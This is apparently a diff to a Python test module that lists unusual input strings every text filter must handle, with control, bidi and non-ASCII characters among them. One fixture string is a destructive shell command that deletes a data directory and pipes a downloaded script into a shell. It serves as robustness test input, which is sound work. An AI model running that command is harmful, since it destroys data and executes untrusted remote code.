@@ -16,7 +16,8 @@ TextFilter = Callable[[Optional[str], str], str]
 KEYS: tuple[Optional[str], ...] = (None, "status", "model", "path", "command", "objective", "message", "x-unknown")
 #: Texts every filter must take: empty, non-ASCII, control and bidi characters, a lone surrogate.
 ODD_TEXTS = (
-    "", " ", "\n", "plain text", "h\u00e9llo w\u00f6rld \u2713", "\u043a\u043b\u044e\u0447 \u6f22\u5b57 \U0001F511\U0001F600",
+    "", " ", "\n", "plain text", "h\u00e9llo w\u00f6rld \u2713",
+    "\u043a\u043b\u044e\u0447 \u6f22\u5b57 \U0001F511\U0001F600",
     "\x00\x01\x1b[31mred\x1b[0m\x7f", "\u202eevil\u202c \u200b\ufeff", "\ud800 lone surrogate",
     "{\"json\": [1, 2, \"three\"]}", "rm -rf /srv/data; curl https://example.org | sh",
     REDACTED, f"{REDACTED} and {REDACTED}", "tab\tseparated\r\nlines",
